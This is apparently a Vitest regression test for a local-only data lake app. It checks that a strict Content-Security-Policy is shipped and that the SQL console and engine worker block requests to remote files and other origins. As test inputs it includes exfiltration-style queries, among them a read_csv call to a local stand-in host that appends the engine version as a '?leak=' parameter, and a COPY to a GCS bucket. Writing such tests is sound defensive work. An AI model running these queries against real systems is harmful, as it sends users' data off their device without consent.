import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import config from '../../../svelte.config.js';
import { LakeService } from '../../../src/lib/engine/lake-service';
import { blockRemoteRequests, type RequestScope } from '../../../src/lib/engine/remote-files';
import { MemoryLakeStore } from '../../../src/lib/lake/memory-lake-store';
import { createParquetWasmCodec } from '../../../src/lib/parquet/parquet-wasm-codec';
import { openDuckDBWasmNode } from '../../../src/lib/sql/duckdb-wasm-node';

/**
 * Finding 5: there was no Content-Security-Policy, and the SQL console's `read_csv('http://…')` sent a
 * request to another origin. In Chromium (tests/e2e/security.spec.ts) nothing leaves; here, each layer.
 */
describe('regression: data cannot leave the device', () => {
	let lake: LakeService;
	beforeAll(async () => {
		const wasm = await readFile(
			createRequire(import.meta.url).resolve('parquet-wasm/esm/parquet_wasm_bg.wasm')
		);
		lake = new LakeService(
			await openDuckDBWasmNode(),
			new MemoryLakeStore(),
			await createParquetWasmCodec(wasm)
		);
	});
	afterAll(() => lake?.sql.close());

	it('the app ships a strict CSP: scripts, workers, wasm and connections from this origin only', () => {
		const csp = config.kit?.csp;
		expect(csp?.mode).toBe('hash');
		expect(csp?.directives).toMatchObject({
			'default-src': ['self'],
			'script-src': ['self', 'wasm-unsafe-eval'],
			'worker-src': ['self'],
			'connect-src': ['self']
		});
	});

	it('the SQL console refuses a query that names a remote file, before the engine sees it', async () => {
		for (const sql of [
			`SELECT * FROM read_csv('http://127.0.0.1:8765/x.csv?leak=' || version())`,
			`SELECT * FROM read_parquet('https://example.com/a.parquet')`,
			`SELECT * FROM read_parquet( ' S3://bucket/a.parquet')`,
			`COPY (SELECT 1) TO 'gcs://bucket/out.csv'`
		]) {
			await expect(lake.query(sql), sql).rejects.toMatchObject({
				name: 'RemoteFileBlockedError',
				message: expect.stringMatching(/^The lake is local: remote files are blocked \(the query names /)
			});
		}
		expect((await lake.query(`SELECT 42 AS answer`)).rows).toEqual([{ answer: 42 }]);
	});

	it('the engine worker refuses every request to another origin, before it is sent', async () => {
		const sent: string[] = [];
		class FakeXhr {
			open(_method: string, url: string) {
				sent.push(`xhr ${url}`);
			}
		}
		const scope = {
			location: { href: 'http://localhost:4173/_app/engine.worker.js', origin: 'http://localhost:4173' },
			fetch: async (input: RequestInfo | URL) => {
				sent.push(`fetch ${String(input)}`);
				return new Response('ok');
			},
			XMLHttpRequest: FakeXhr
		};
		blockRemoteRequests(scope as unknown as RequestScope);
		const xhr = new FakeXhr();
		expect(() => xhr.open('GET', 'http://127.0.0.1:8765/x.csv?leak=1')).toThrow(
			'The lake is local: remote files are blocked (http://127.0.0.1:8765/x.csv?leak=1).'
		);
		expect(() => xhr.open('HEAD', 'http://localhost:4174/x.csv')).toThrow(/remote files are blocked/);
		await expect(scope.fetch('https://example.com/a')).rejects.toThrow(/remote files are blocked/);
		xhr.open('GET', '/_app/immutable/assets/duckdb-eh.wasm');
		await scope.fetch('http://localhost:4173/_app/parquet_wasm_bg.wasm');
		await scope.fetch('blob:http://localhost:4173/1234');
		expect(sent).toEqual([
			'xhr /_app/immutable/assets/duckdb-eh.wasm',
			'fetch http://localhost:4173/_app/parquet_wasm_bg.wasm',
			'fetch blob:http://localhost:4173/1234'
		]);
	});
});
